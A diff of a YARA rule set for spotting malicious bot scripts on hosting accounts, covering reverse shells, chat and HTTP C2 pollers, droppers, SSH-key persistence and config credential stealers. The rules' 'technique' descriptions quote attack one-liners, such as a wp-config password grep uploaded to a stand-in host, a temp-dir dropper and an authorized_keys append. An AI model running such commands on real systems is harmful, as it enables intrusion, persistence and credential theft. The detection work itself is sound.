@@ -47,11 +47,12 @@ private rule hs_lang_python
     strings:
         $sb = /#![^\n]{0,60}python/
         $c1 = /\bpython[0-9.]{0,5}\s{1,4}-c\s/
-        $m1 = /(^|[\n;])\s{0,8}import\s{1,4}(socket|subprocess|os|pty|sys|base64|zlib|marshal|smtplib|urllib|urllib2|requests|threading|cgi|commands)\b/
+        // train6: the module anywhere in a comma list (`import random, socket, sys`)
+        $m1 = /(^|[\n;])\s{0,8}import\s{1,4}([\w.]{1,30}\s{0,2},\s{0,2}){0,8}(socket|subprocess|os|pty|sys|base64|zlib|marshal|smtplib|urllib|urllib2|requests|threading|cgi|commands)\b/
         $m2 = /(^|[\n;])\s{0,8}from\s{1,4}(socket|subprocess|os|pty|smtplib|urllib|urllib2|email)[\w.]{0,20}\s{1,4}import\s/
         $m3 = /__import__\s{0,2}\(\s{0,2}['"](socket|os|subprocess|pty|base64|zlib)['"]/
         $d1 = /\n( {4}| {8}|\t{1,2})?def [A-Za-z_]\w{0,39}\s{0,2}\(/
-        $d2 = /\n(import|from) [A-Za-z_][\w.]{0,39}/
+        $d2 = /(^|\n)(import|from) [A-Za-z_][\w.]{0,39}/
     condition:
         $sb at 0 or extension == "py" or extension == "pyw" or $c1 or $m1 or $m2 or $m3 or ($d1 and $d2)
 }
@@ -260,7 +261,7 @@ rule bot_revshell_perl : bot
         description = "Perl connect-back/bind shell: a socket attached to STDIN/STDOUT and a shell run, or commands read from the socket and their output sent back"
         severity = "critical"
         technique = "socket()/IO::Socket::INET + connect/accept + open(STDIN,\">&S\")/dup2/fdopen + exec /bin/sh; while(<$s>){print $s `$_`}"
-        seen = "pre"
+        seen = "pre,train6"
     strings:
         $sk1 = /\bsocket\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}(&?PF_INET6?|&?AF_INET6?|2)\b/
         $sk2 = /IO::Socket::(INET6?|IP|SSL)\s{0,4}->\s{0,2}new\b/
@@ -287,11 +288,11 @@ rule bot_revshell_perl : bot
         $w7 = /\bdup2\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,2}->\s{0,2}fileno\b/
         $w8 = /\bdup2\s{0,4}\(\s{0,4}fileno\s{0,4}\(?\s{0,4}\$?\w{1,30}\s{0,4}\)?\s{0,4},\s{0,4}\$_\s{0,4}\)/
         // a shell run
-        $x1 = /\b(exec|system)\s{0,4}[({]?\s{0,4}['"]\s{0,4}(\/usr)?\/bin\/(ba|z|k|da|c|tc)?sh\b/
+        $x1 = /\b(exec|system)\s{0,4}(\(\s{0,4}\{|[({])?\s{0,4}['"]\s{0,4}(\/usr)?\/bin\/(ba|z|k|da|c|tc)?sh\b/
         $x2 = /\b(exec|system)\s{0,4}[({]?\s{0,4}['"](ba|z|k|da)?sh -i\b/
         $x3 = /\b(exec|system)\s{0,4}[({]?\s{0,4}\$\w{1,30}/
         $x4 = /\bsystem\s{0,4}\(?\s{0,4}\$_\s{0,4}\)?\s{0,4}while\b/
-        $x5 = /\b(exec|system)\s{0,4}[({]?\s{0,4}['"](ba|z|k|da)?sh( -i)?['"]/
+        $x5 = /\b(exec|system)\s{0,4}(\(\s{0,4}\{|[({])?\s{0,4}['"](ba|z|k|da)?sh( -i)?['"]/
         $shp = /\/bin\/(ba|z|k|da)?sh\b|['"](ba|z|k|da)?sh -i\b|cmd\.exe|COMSPEC/
         // command loop: read a line from a handle, run it, print the output to a handle
         $l1 = /\bwhile\s{0,4}\(\s{0,4}(defined\s{0,4}\(?\s{0,4})?(my\s{1,4})?(\$\w{1,30}\s{0,4}=\s{0,4})?(<\s{0,2}\$?\w{1,30}\s{0,2}>|\$\w{1,30}\s{0,2}->\s{0,2}getline\b|readline\s{0,2}\()|\bwhile\s{0,4}\(\s{0,4}(sysread|recv)\s{0,4}\(\s{0,4}\$?\w{1,30}\s{0,4},/
@@ -301,7 +302,8 @@ rule bot_revshell_perl : bot
         // or in two steps: $out = `$line`; print $sock $out;
         $l5 = /`\$\w{1,30}( 2>&1)?`/
         $l7 = /\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w{1,30}/
-        $l6 = /\bprint\s{1,4}\{?\s{0,2}\$\w{1,30}\s{0,2}\}?\s{1,4}\$\w{1,30}\s{0,4}[;,]|\b(syswrite|send)\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}\$\w{1,30}/
+        // (train6: a bareword handle too, send(S, $o, 0))
+        $l6 = /\bprint\s{1,4}\{?\s{0,2}\$?\w{1,30}\s{0,2}\}?\s{1,4}\$\w{1,30}\s{0,4}[;,]|\b(syswrite|send)\s{0,4}\(\s{0,4}\$?\w{1,30}\s{0,4},\s{0,4}\$\w{1,30}/
     condition:
         filesize < 2MB and hs_lang_perl and not hs_doc_file and any of ($sk*) and any of ($nt*) and (
             (any of ($w*) and (any of ($x1, $x2, $x4, $x5) or ($x3 and $shp)))
@@ -431,7 +433,7 @@ rule bot_revshell_ruby : bot
         description = "Ruby connect-back/bind shell: a TCPSocket/TCPServer connection reopened as stdio for a shell, or lines read from it run and the output written back"
         severity = "critical"
         technique = "TCPSocket.new + $stdin.reopen(s) + exec sh; while c = s.gets: IO.popen(c) / `#{c}` / %x(#{c}), s.print / s.puts / s.write"
-        seen = "none"
+        seen = "none,train6"
     strings:
         $sk = /\bTCP(Socket|Server)\s{0,2}\.\s{0,2}(new|open)\b/
         $ro = /(\$stdin|\bSTDIN|\$stdout|\bSTDOUT)\s{0,2}\.\s{0,2}reopen\s{0,2}\(\s{0,2}[a-zA-Z_@$]/
@@ -443,7 +445,7 @@ rule bot_revshell_ruby : bot
         $x2 = /`#\{\s{0,2}[a-zA-Z_@$]/
         $x3 = /%x[({\[]#\{/
         $x4 = /\b(system|exec|spawn)\s{0,2}\(?\s{0,2}[a-zA-Z_@$][\w.]{0,30}\s{0,2}(\)|$|\n)/
-        $x5 = /\bOpen3\s{0,2}\.\s{0,2}(popen[23e]?|capture[23e]?)\s{0,2}\(\s{0,2}[a-zA-Z_@$]/
+        $x5 = /\bOpen3\s{0,2}\.\s{0,2}(popen[23]?e?|capture[23]?e?)\s{0,2}\(\s{0,2}[a-zA-Z_@$]/
         $w = /\.\s{0,2}(print|puts|write|send)\b/
     condition:
         filesize < 2MB and not hs_doc_file and $sk and (
@@ -533,7 +535,7 @@ rule bot_php_back_connect : bot
         description = "PHP back-connect shell: socket opened and a shell bound to it"
         severity = "critical"
         technique = "fsockopen/socket_create + proc_open/popen of /bin/sh"
-        seen = "pre"
+        seen = "pre,train6"
     strings:
         $s1 = "fsockopen(" ascii
         $s2 = "socket_create(" ascii
@@ -547,6 +549,8 @@ rule bot_php_back_connect : bot
         $sh5 = "/bin/sh\"" ascii
         $sh6 = "'/bin/sh'" ascii
         $sh7 = /\b(proc_open|popen)\s{0,4}\(\s{0,4}["'](\/usr)?\/bin\/(ba|z|k|da)?sh( -i)?["']/
+        // train6: the shell's descriptors are the socket itself: proc_open('sh', [0 => $s, 1 => $s, 2 => $s], $p)
+        $ds = /\bproc_open\s{0,4}\(\s{0,4}["'](\/usr)?(\/bin\/)?(ba|z|k|da)?sh( -i)?["']\s{0,4},\s{0,4}(array\s{0,4}\(|\[)\s{0,4}0\s{0,4}=>\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}1\s{0,4}=>\s{0,4}\$\w{1,30}/
         $fp = /(fputs|fwrite|socket_write)\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}(\$\w{1,20}\s{0,4}\.\s{0,4})?(system|shell_exec|exec|passthru)\s{0,4}\(/
     condition:
         /* the sockets are listed by name: ($s*) would also take $sh1..$sh6,
@@ -558,6 +562,7 @@ rule bot_php_back_connect : bot
             filesize < 500KB and any of ($s1, $s2, $s3) and any of ($p*) and any of ($sh1, $sh2, $sh3)
             or (filesize < 500KB and any of ($s1, $s2, $s3) and $p1 and any of ($sh5, $sh6))
             or (filesize < 500KB and any of ($s1, $s2, $s3) and $sh7)
+            or (filesize < 500KB and any of ($s1, $s2, $s3) and $ds)
         )
 }
 
@@ -627,7 +632,7 @@ rule bot_irc_script : bot
         description = "IRC bot: speaks IRC over a raw socket (NICK/USER/JOIN, PING/PONG, PRIVMSG) and runs commands or attacks it is sent"
         severity = "critical"
         technique = "IRC control loop (C&C over IRC) with command dispatch to a shell, a flood or a download"
-        seen = "pre"
+        seen = "pre,train6"
     strings:
         // a command built from what arrived (a variable), not a fixed one
         $x1 = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s{0,4}\(?\s{0,4}(["'][^"'\n]{0,40})?\$/
@@ -641,7 +646,8 @@ rule bot_irc_script : bot
         $x8 = /\bshell\s{0,2}=\s{0,2}True\b/
         // round 7: asyncio's shell, Node's child_process on a variable
         $x10 = /\bcreate_subprocess_shell\s{0,2}\(\s{0,2}[a-zA-Z_]/
-        $x11 = /\b(execSync|spawnSync|exec|spawn)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}[,)]/
+        // (train6: a match group too, cp.exec(m[1], ..))
+        $x11 = /\b(execSync|spawnSync|exec|spawn)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}(\s{0,2}\[\s{0,2}\d{1,2}\s{0,2}\])?\s{0,2}[,)]/
         // round 8: Perl's three-argument pipe open of a variable, readpipe
         $x12 = /\bopen\s{0,2}\(\s{0,2}(my\s{1,4})?[$*]?\w{1,30}\s{0,2},\s{0,2}['"]-\|['"]\s{0,2},\s{0,2}\$\w{1,30}|\breadpipe\s{0,2}\(?\s{0,2}\$\w{1,30}/
         $a1 = /\b(udp|tcp|syn|http|icmp)\s{0,2}_?flood/ nocase
@@ -892,7 +898,7 @@ rule bot_perl_flooder_scanner : bot
         description = "Perl/Python DDoS flooder or mass scanner: packets sent in an endless or timed loop to random or sweeping ports"
         severity = "high"
         technique = "UDP/TCP/HTTP flood or port-range scanner script"
-        seen = "pre"
+        seen = "pre,train6"
     strings:
         $f1 = /\b(udp|tcp|syn|http|icmp|ack)\s{0,2}_?flood/ nocase
         $f5 = /\bport\s{0,2}_?scan/ nocase
@@ -912,7 +918,7 @@ rule bot_perl_flooder_scanner : bot
         $dl = /\btime\s{0,2}(\(\s{0,2}\))?\s{0,4}\+\s{0,4}\(?\s{0,4}\$\w{1,20}|\btime\.time\s{0,2}\(\s{0,2}\)\s{0,4}\+\s{0,4}[a-zA-Z_(]/
         // a connection opened per round, or a packet to a random port
         $cr = /IO::Socket::INET\s{0,4}->\s{0,2}new\s{0,2}\(\s{0,2}PeerAddr[^\n]{0,120}(Blocking\s{0,4}=>\s{0,4}0|Proto\s{0,4}=>\s{0,4}['"]udp)/
-        $rp = /\b(int\s{0,2}\(\s{0,2}rand\s{0,2}\(\s{0,2}6553[0-9]|random\.randint\s{0,2}\(\s{0,2}[0-9]{1,4}\s{0,2},\s{0,2}6553[0-9])/
+        $rp = /\b(int\s{0,2}\(\s{0,2}rand\s{0,2}\(\s{0,2}6553[0-9]|random\.(randint|randrange)\s{0,2}\(\s{0,2}[0-9]{1,4}\s{0,2},\s{0,2}6553[0-9])/
     condition:
         filesize < 1MB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
         any of ($n*) and any of ($s*) and $r1 and $lp and
@@ -1151,7 +1157,7 @@ rule bot_fetch_exec_perl : bot
         description = "Perl script that downloads code and evals it, or saves a download and runs it"
         severity = "high"
         technique = "eval(get(URL)); getstore(URL, F) + chmod/system(F); $ua->get(URL)->content eval'd"
-        seen = "bediger4000,nikicat,shipcod3,tennc"
+        seen = "bediger4000,nikicat,shipcod3,tennc,train6"
     strings:
         $e1 = /\beval\s{0,4}[({]?\s{0,4}(LWP::Simple::)?get\s{0,4}\(\s{0,4}['"$]/
         $e2 = /\beval\s{0,4}[({]?\s{0,4}\$\w{1,30}\s{0,4}->\s{0,2}(get|request)\s{0,2}\([^)\n]{0,200}\)\s{0,4}->\s{0,2}(decoded_)?content/
@@ -1165,9 +1171,13 @@ rule bot_fetch_exec_perl : bot
         $x2 = /\bchmod\s{0,4}\(?\s{0,4}0?[0-7]?[1357][0-7]{2}\b/
         $x3 = /`\s{0,2}(perl|sh|bash|python|\.\/|\/tmp\/|chmod)/
         $ht = /HTTP::Tiny|LWP::UserAgent/
+        // train6: my $t = get($u); .. my $code = decode_base64($t); eval $code;
+        $kv = /\$\w{1,30}\s{0,2}=\s{0,2}(LWP::Simple::)?get\s{0,2}\(|->\s{0,2}(decoded_)?content\b/
+        $kx = /\beval\s{0,4}\(?\s{0,4}((decode_base64|uncompress|unpack|pack|reverse)\s{0,2}\(?\s{0,2}(['"][^'"\n]{1,4}['"]\s{0,2},\s{0,2})?)?\$\w{1,30}\s{0,4}\)?\s{0,4}[;}]/
     condition:
         filesize < 2MB and hs_lang_perl and not hs_doc_file and
-        (any of ($e*) or ($h4 and $ht) or (any of ($g*) and any of ($x*)))
+        (any of ($e*) or ($h4 and $ht) or (any of ($g*) and any of ($x*)) or
+         for any i in (1..#kx) : ( $kv in (@kx[i] - 300 .. @kx[i]) ))
 }
 
 rule bot_fetch_exec_python : bot
@@ -1176,7 +1186,7 @@ rule bot_fetch_exec_python : bot
         description = "Python script that downloads code and execs it, or saves a download, marks it executable and runs it"
         severity = "high"
         technique = "exec(urlopen(URL).read()); exec(requests.get(URL).text); c = fetch(); exec(compile(b64decode(c[::-1]), '<s>', 'exec')); urlretrieve(URL, F) + os.chmod(F, 0o755) + subprocess/os.system"
-        seen = "bediger4000,nikicat,shipcod3,tennc,heldout5"
+        seen = "bediger4000,nikicat,shipcod3,tennc,heldout5,train6"
     strings:
         $e1 = /\bexec\s{0,2}\(\s{0,2}(urllib(2|\.request)?\.)?urlopen\s{0,2}\(/
         $e2 = /\bexec\s{0,2}\(\s{0,2}requests\.get\s{0,2}\([^\n]{0,200}\)\s{0,2}\.(text|content)/
@@ -1195,7 +1205,7 @@ rule bot_fetch_exec_python : bot
         $g3 = /\brequests\.get\s{0,2}\(/
         // (round 10) other HTTP clients: httpx, urllib3, a requests Session, http.client
         $g4 = /\b(httpx|urllib3)\s{0,2}\.\s{0,2}(get|request|stream|PoolManager|Client)\s{0,2}\(|\.getresponse\s{0,2}\(\s{0,2}\)|\brequests\s{0,2}\.\s{0,2}(post|request|Session)\s{0,2}\(/
-        $c1 = /\bos\.chmod\s{0,2}\([^)\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|\b(493|511|365)\b)/
+        $c1 = /\bos\.chmod\s{0,2}\([^)\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|S_IRWX[UGO]|\b(493|511|365)\b)/
         $x1 = /\b(os\.system|subprocess\.\w{1,16}|os\.exec\w{1,3}|os\.popen|os\.spawn\w{1,3})\s{0,2}\(/
         // a download checked against a digest is a deployment step
         $ck = /\bhashlib\.(sha(1|224|256|384|512)|blake2[bs]|new)\s{0,2}\(/
@@ -1384,7 +1394,7 @@ rule bot_sshkey_persistence : bot
         description = "Script appending an SSH public key (embedded, from the request or downloaded) to authorized_keys, or locking the file with chattr"
         severity = "high"
         technique = "echo 'ssh-rsa AAAA...' >> ~/.ssh/authorized_keys; chattr +i; file_put_contents($h.'/.ssh/authorized_keys', KEY, FILE_APPEND); open(..., 'a').write(KEY); curl URL >> authorized_keys"
-        seen = "none"
+        seen = "none,train6"
     strings:
         $ak = "authorized_keys" ascii
         // appended or written
@@ -1401,11 +1411,20 @@ rule bot_sshkey_persistence : bot
         // a key downloaded in Python, PHP or Perl; the file locked with chattr from a list
         $k5 = /\burlopen\s{0,2}\(|\brequests\.get\s{0,2}\(|\bfile_get_contents\s{0,2}\(\s{0,2}['"](https?|ftp):|\bLWP::Simple\b|\bHTTP::Tiny\b/
         $k6 = /['"]chattr['"]\s{0,2},\s{0,2}['"][-+][ia]/
+        // train6: an embedded key alone is also how an owner adds a deploy key; it
+        // takes a sign of hiding or reach: the change's time forged (touch -r),
+        // other accounts' or root's files, a beacon home, a web script, history wiped
+        $hs1 = /\btouch\s{1,4}(-[acm]{1,3}\s{1,4})?-[rtd]\s/
+        $hs2 = "/root/.ssh" ascii
+        $hs3 = /\/home\d?\/\*|\/etc\/passwd|\$\w{1,30}\s{0,2}\.\s{0,2}['"]\/\.ssh\//
+        $hs4 = /\b(curl|wget)\s[^\n]{0,200}\$\(\s{0,2}(hostname|id|whoami|uname)\b/
+        $hs5 = /<\?php|\bhistory\s{1,4}-c\b|\bunset\s{1,4}HISTFILE\b/
+        $hs6 = /\bos\.path\.join\s{0,2}\(\s{0,2}[a-z_]\w{0,30}\s{0,2},\s{0,2}['"](\.ssh\/)?authorized_keys['"]/
     condition:
         filesize < 1MB and not hs_doc_file and $ak and
         (any of ($ap1, $ap2, $ap3) or
          for any i in (1..#ak) : ( for any of ($ap4, $ap5) : ( $ in (@ak[i] - 40 .. @ak[i] + 400) ) )) and
-        any of ($k*)
+        (any of ($k2, $k3, $k4, $k5, $k6) or ($k1 and any of ($hs*)))
 }
 
 /* A scheduled line that restarts a downloader or a hidden program, written
@@ -1450,12 +1469,12 @@ rule bot_dropper_tmp_exec : bot
         description = "Dropper: downloads a program into a temp dir, makes it executable and starts it detached (any language), without verifying it"
         severity = "high"
         technique = "F=/tmp/.x; wget -q $U -O $F; chmod +x $F; nohup $F &; rm -f $F | file_put_contents('/tmp/x', file_get_contents(URL)); chmod(..., 0755); exec('... &') | urlopen + os.chmod + Popen"
-        seen = "none"
+        seen = "none,train6"
     strings:
         $f = /\b(wget|curl|fetch|tftp|ftpget|lwp-download)\s{1,4}[-"'$\w]|\b(file_get_contents|copy|fopen|curl_init)\s{0,2}\(\s{0,2}(['"](https?|ftp):\/\/|\$\w{1,30}\s{0,2}[,)])|\b(urlopen|urlretrieve|getstore|mirror)\s{0,2}\(|\brequests\.get\s{0,2}\(|:content_file\b|\bhttps?\.get\s{0,2}\(\s{0,2}['"`]|\bLWP::UserAgent\b|\bHTTP::Tiny\b|\bLWP::Simple\b/
-        $tm = /\/(tmp|var\/tmp|dev\/shm)\b|\bsys_get_temp_dir\s{0,2}\(|\btempfile\.|\bmktemp\b/
+        $tm = /\/(tmp|var\/tmp|dev\/shm)\b|\bsys_get_temp_dir\s{0,2}\(|\btempfile\.|\bmktemp\b|\btmpdir\s{0,2}\(\s{0,2}\)/
         // shell chmod +x / 755, PHP chmod($f, 0755), Perl chmod 0755, $f, os.chmod(p, 0o755 | S_IEXEC)
-        $cx = /\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\b|\bchmod\s{0,2}\(\s{0,2}[^,\n]{1,80},\s{0,2}0?[0-7]?[1357][0-7]{2}\s{0,2}\)|\bos\.chmod\s{0,2}\([^\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|\b(493|511|365)\b)|\bchmodSync\s{0,2}\([^\n]{1,80}(0o[0-7]?[1357][0-7]{2}\b|\b(493|511)\b)/
+        $cx = /\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\b|\bchmod\s{0,2}\(\s{0,2}[^,\n]{1,80},\s{0,2}0?[0-7]?[1357][0-7]{2}\s{0,2}\)|\bos\.chmod\s{0,2}\([^\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|S_IRWX[UGO]|\b(493|511|365)\b)|\bchmodSync\s{0,2}\([^\n]{1,80}(0o[0-7]?[1357][0-7]{2}\b|\b(493|511)\b)|\b(createWriteStream|writeFile(Sync)?)\s{0,2}\([^\n)]{1,120}\bmode\s{0,2}:\s{0,2}(0o[0-7]?[1357][0-7]{2}\b|(448|493|511)\b)/
         // started detached: nohup, setsid, Popen, output thrown away, a trailing &
         $rn1 = /\b(nohup|setsid)\s|\bPopen\s{0,2}\(|\bstart_new_session\b|>\s{0,2}\/dev\/null|\bdetached\s{0,2}:\s{0,2}true\b/
         $rn2 = " &\n" ascii
@@ -1552,14 +1571,14 @@ rule bot_http_c2_poll : bot
         description = "Bot polling an HTTP C2: fetches a command, runs it, posts the output back (or hides as a renamed daemon), in a sleeping loop"
         severity = "high"
         technique = "while(1){ $j = json_decode(file_get_contents(C2)); $o = shell_exec($j['cmd']); POST $o; sleep(N); } | requests.get(...).json() + subprocess.run(c, shell=True) + requests.post + time.sleep | LWP get + `$c` + $ua->post / $0 = 'httpd' + fork"
-        seen = "none"
+        seen = "none,train6"
     strings:
         // the fetch (PHP, Python, Perl LWP, or GET written to a raw socket)
         $g = /\b(file_get_contents|fopen)\s{0,2}\(\s{0,2}(\$\w{1,30}|['"]https?:\/\/)|\bcurl_exec\s{0,2}\(|\brequests\.(get|post)\s{0,2}\(|\burlopen\s{0,2}\(|->\s{0,2}(get|request)\s{0,2}\(\s{0,2}["$]|\bLWP::Simple::get\s{0,2}\(|\bget\s{0,2}\(\s{0,2}["']https?:|\b(print|send|sendall|syswrite)\s{0,2}\(?\s{0,2}[$\w.{}]{1,30}\s{0,2},?\s{0,2}b?["']GET \//
         // the order run as a command: a non-literal argument (PHP, Python, Perl)
         $r = /\b(shell_exec|system|passthru|popen|proc_open|exec)\s{0,2}\(\s{0,2}\$\w{1,30}(\[|->|\s{0,2}[),.])|\bsubprocess\.(run|call|check_output|check_call|Popen)\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,120}\bshell\s{0,2}=\s{0,2}True|\b(subprocess\.(getoutput|getstatusoutput)|commands\.getoutput|os\.(popen|system))\s{0,2}\(\s{0,2}[a-zA-Z_]|`\$\w{1,30}( 2>&1)?`|\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w{1,30}|\bsystem\s{0,2}\(?\s{0,2}\$\w{1,30}\s{0,2}[);]/
         // the output posted back
-        $p = /['"]method['"]\s{0,2}=>\s{0,2}['"]POST['"]|\bCURLOPT_POSTFIELDS\b|\brequests\.post\s{0,2}\(|\b(Request|urlopen)\s{0,2}\([^\n]{0,200}(\bdata\s{0,2}=|,\s{0,2}(urllib\.(parse\.)?)?urlencode\s{0,2}\()|->\s{0,2}post(_form)?\s{0,2}\(|["']POST \/[^\n]{0,60}HTTP\/1/
+        $p = /['"]method['"]\s{0,2}=>\s{0,2}['"]POST['"]|\bCURLOPT_POSTFIELDS\b|\brequests\.post\s{0,2}\(|\b(Request|urlopen)\s{0,2}\([^\n]{0,200}(\bdata\s{0,2}=|,\s{0,2}(urllib\.(parse\.)?)?urlencode\s{0,2}\()|\bRequest\s{0,2}\(\s{0,2}[\w'"][^,\n]{0,120},\s{0,2}(json\.dumps\s{0,2}\(|[a-zA-Z_]\w{0,30}\s{0,2}[,)]|b['"])|->\s{0,2}post(_form)?\s{0,2}\(|["']POST \/[^\n]{0,60}HTTP\/1/
         // a beacon loop (round 8: or Telegram's long poll, which waits by itself)
         $tg = "/getUpdates" ascii
         $sl = /\b(u?sleep|time\.sleep)\s{0,2}[\( ]/
@@ -1973,7 +1992,7 @@ rule bot_config_credential_exfil : bot
         description = "Config stealer: sites' wp-config.php/.env/configuration.php searched across accounts, the database passwords pulled out and sent away"
         severity = "high"
         technique = "for f in $(find /home -name wp-config.php); do grep DB_PASSWORD \"$f\"; done > /tmp/.c; curl -F f=@/tmp/.c http://x/up.php  |  glob('/home/*/public_html/wp-config.php') + preg_match DB_PASSWORD + mail('x@y', ...)"
-        seen = "none"
+        seen = "none,train6"
     strings:
         $g1 = /\/home\d?\/\*\/[^\s'"]{0,40}(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
         $g2 = /\bfind\s{1,4}[^\n|;]{0,80}-i?name\s{1,4}['"]?(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
@@ -1988,6 +2007,9 @@ rule bot_config_credential_exfil : bot
         $c4 = /DB_\(?[A-Z_|]{0,40}PASS/
         // round 7: a Python regex DB_(?:USER|PASSWORD)
         $c5 = /DB_\(\?:[A-Z_|]{0,40}PASS/
+        // train6: every DB_ key taken by a regex, or the other secrets of a .env
+        $c6 = "DB_\\w" ascii
+        $c7 = /\b(MAIL_PASSWORD|AWS_SECRET_ACCESS_KEY|STRIPE_SECRET(_KEY)?|SMTP_PASS(WORD)?)\b/
         $x1 = "api.telegram.org" ascii
         $x2 = /\bmail\s{0,4}\(\s{0,4}['"][^'"\s@]{1,40}@[\w-]{1,40}\.[\w.]{2,20}['"]/
         $x3 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,80}"|'[^'\n]{0,80}'|\S{1,80})\s{1,4}){1,4}[\w.+-]{1,40}@[\w-]{1,40}\.[\w.]{2,20}/
@@ -1997,7 +2019,7 @@ rule bot_config_credential_exfil : bot
         $x7 = /file_get_contents\s{0,4}\(\s{0,4}['"]https?:\/\/[^'"\n]{1,120}['"]\s{0,4}\./
         // round 7: a chat webhook; Python's POST (Request with data, requests.post)
         $x8 = /discord(app)?\.com\/api\/webhooks\//
-        $x9 = /\brequests\.post\s{0,2}\(|urllib\.request\.Request\s{0,2}\([^\n]{0,200}\bdata\s{0,2}=/
+        $x9 = /\brequests\.post\s{0,2}\(|urllib\.request\.Request\s{0,2}\([^\n]{0,200}\bdata\s{0,2}=|\bRequest\s{0,2}\(\s{0,2}[\w'"][^,\n]{0,120},\s{0,2}(json\.dumps\s{0,2}\(|[a-zA-Z_]\w{0,30}\s{0,2}[,)]|b['"])/
     condition:
         filesize < 500KB and (not hs_doc_file or hs_script_ext) and
         ($g1 or $g2 or (any of ($g3, $g4, $g5) and $gw)) and any of ($c*) and any of ($x*)
@@ -2815,4 +2837,264 @@ rule bot_git_hook_install : bot
         for any of ($p*) : ( for any i in (1..#) : (
             for any j in (1..#hk) : ( @hk[j] > @[i] - 600 and @hk[j] < @[i] + 600 ) or
             for any j in (1..#gl) : ( @gl[j] > @[i] - 600 and @gl[j] < @[i] + 600 ) ) )
+}
+
+/* ---- round 11 (branch fix6-bot, seen = "train6"): the causes behind the
+ * bots train6 missed (docs/script-rules.md, "Round 11: train6"), written
+ * for the technique in every language a hosting account runs. */
+
+/* A bot whose channel is a chat service: it reads the messages sent to it
+ * (Telegram's getUpdates, a Discord channel's messages, Slack's history),
+ * runs the text as a command line in whatever language it is written in,
+ * and answers with the output (sendMessage, a webhook, a channel post). A
+ * notifier only sends; a chat-ops bot that maps a word to a fixed command
+ * list runs literals. */
+rule bot_chat_c2_command_exec : bot
+{
+    meta:
+        description = "Chat-controlled bot (Telegram, Discord, Slack): the messages it reads run as shell commands and the output posted back, in any language"
+        severity = "high"
+        technique = "getUpdates + `$u->{message}{text}` + sendMessage (Perl); curl getUpdates + sh -c \"$cmd\" + curl sendMessage (shell); execSync(u.message.text) (Node); /channels/N/messages + subprocess.getoutput(m['content']) + webhook (Python)"
+        seen = "train6"
+    strings:
+        // the orders read
+        $rx1 = "getUpdates" ascii
+        $rx2 = /discord(app)?\.com\/api\/(v\d{1,2}\/)?channels\//
+        $rx3 = "conversations.history" ascii
+        // the answer
+        $tx1 = "sendMessage" ascii
+        $tx2 = /discord(app)?\.com\/api\/(v\d{1,2}\/)?webhooks\/|\/channels\/[^\n]{0,80}\/messages/
+        $tx3 = "chat.postMessage" ascii
+        // a command line that is not a literal, per language
+        $x1 = /`\$[\w{]/
+        $x2 = /\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w/
+        $x3 = /\b(system|shell_exec|passthru|popen|proc_open)\s{0,2}\(\s{0,2}\$\w/
+        $x4 = /\b(sh|bash|dash|zsh)\s{1,4}-c\s{1,4}["']?\$\{?\w/
+        $x5 = /\beval\s{1,4}["']?\$\{?[a-zA-Z_]/
+        $x6 = /\b(execSync|exec|spawn|spawnSync)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$.]{0,40}(\[[^\]\n]{0,20}\]){0,2}[\w$.]{0,20}\s{0,2}[,)]/
+        // (Python: a shell line; an argument list picked from a table of commands is not)
+        $x7 = /\b(subprocess\.(getoutput|getstatusoutput)|os\.popen|os\.system|commands\.getoutput|create_subprocess_shell)\s{0,2}\(\s{0,2}[a-zA-Z_]|\bsubprocess\.\w{1,16}\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,160}\bshell\s{0,2}=\s{0,2}(True|1)\b/
+        $x8 = /`#\{|%x[({\[]\s{0,2}#\{|\bIO\.popen\s{0,2}\(\s{0,2}[a-z_@$]|\bOpen3\.\w{1,10}\s{0,2}\(\s{0,2}[a-z_@$]/
+        $cp = "child_process" ascii
+    condition:
+        filesize < 1MB and (not hs_doc_file or hs_node_code) and any of ($rx*) and any of ($tx*) and
+        (any of ($x1, $x2, $x3, $x4, $x5, $x7, $x8) or ($x6 and $cp))
+}
+
+/* An HTTP poller in shell: the order fetched into a variable ($(curl ..),
+ * $(wget -qO- ..)), run by sh -c / eval, the output posted back with curl
+ * or wget, in an endless sleeping loop. A deploy poller compares what it
+ * fetched with a word and runs its own script. */
+rule bot_shell_http_c2_poll : bot
+{
+    meta:
+        description = "Shell HTTP command poller: a fetched command run with sh -c/eval and the output posted back, in a sleeping loop"
+        severity = "high"
+        technique = "while true; do c=$(curl -s $U/task); r=$(sh -c \"$c\" 2>&1); curl -s -d \"o=$r\" $U/out; sleep 60; done"
+        seen = "train6"
+    strings:
+        $lp = /\b(while\s{1,4}(true|:|\[\s{1,2}1\s{1,2}\])|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b/
+        $g = /\$\(\s{0,2}(curl|wget)\s[^\n)]{0,300}\)/
+        $r = /\b(sh|bash|dash|zsh)\s{1,4}-c\s{1,4}["']?\$\{?\w{1,30}|\beval\s{1,4}["']?\$\{?[a-zA-Z_]\w{0,30}/
